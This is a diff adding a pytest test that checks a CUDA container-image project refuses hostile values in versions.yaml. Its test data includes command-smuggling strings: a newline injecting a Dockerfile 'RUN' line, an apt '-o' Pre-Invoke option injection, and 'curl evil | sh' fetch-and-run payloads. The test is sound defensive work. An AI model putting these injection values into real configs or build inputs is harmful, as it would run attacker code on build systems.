@@ -106,6 +106,56 @@ def test_a_deb_combination_needs_its_debian_toolkit(tmp_path):
         load_combinations(path)
 
 
+_ENTRY = "  - cuda: '12.4'\n    cudnn: '9.1'\n    pip_reason: x\n    ngc_reason: y\n"
+_DEB = "    deb: {devel: [a], runtime: [a]}\n"
+_DEBIAN = "debian:\n  '12.4': {suite: trixie, devel: [%s], runtime: [a]}\n"
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        # Versions go into image tags and cell names; a line break there, into a Dockerfile.
+        (
+            "combinations:\n" + _ENTRY.replace("'12.4'", '"9.9\\nRUN evil"') + _DEB,
+            "combinations[0].cuda: '9.9\\nRUN evil' is not a version",
+        ),
+        ("combinations:\n" + _ENTRY.replace("'9.1'", "[9.8]") + _DEB, "cudnn: [9.8] is not a"),
+        ("combinations:\n" + _ENTRY.replace("'9.1'", "true") + _DEB, "cudnn: True is not a"),
+        (
+            _DEBIAN % "a" + "combinations:\n" + _ENTRY + _DEB + _ENTRY + _DEB,
+            "combinations[1]: cuda 12.4 + cudnn 9.1 is combinations[0] again",
+        ),
+        (
+            "combinations:\n" + _ENTRY + _DEB + "    conda: {devel: [x]}\n",
+            "combinations[0].conda: unknown key",
+        ),
+        # apt-get takes each entry as an argument: '-o...' would be an option.
+        (_DEBIAN % "'-oAPT::Update::Pre-Invoke::=evil'", "is not an apt package=version"),
+        (_DEBIAN % '"x\\nRUN curl evil | sh"', "is not an apt package=version"),
+        (_DEBIAN % "'a; curl evil|sh'", "is not an apt package=version"),
+        (
+            "combinations:\n"
+            + _ENTRY.replace("    pip_reason: x\n", "")
+            + "    pip: {devel: ['x y'], runtime: [a]}\n"
+            + _DEB,
+            "combinations[0].pip.devel: 'x y' is not a pin name",
+        ),
+    ],
+)
+def test_versions_yaml_values_that_would_reach_tags_or_apt_as_code_are_refused(
+    tmp_path, text, message
+):
+    path = tmp_path / "versions.yaml"
+    if "combinations:" not in text:
+        text += "combinations:\n" + _ENTRY + _DEB
+    if "debian:" not in text:
+        text = _DEBIAN % "a" + text
+    path.write_text(text)
+    with pytest.raises(ConfigError) as raised:
+        load_combinations(path)
+    assert message in raised.value.message and "\n" not in raised.value.message
+
+
 def test_a_key_given_twice_in_versions_yaml_is_refused_with_its_line(tmp_path):
     path = tmp_path / "versions.yaml"
     path.write_text("combinations:\n  - cuda: '12.4'\n    cuda: '13.0'\n    cudnn: '9.1'\n")
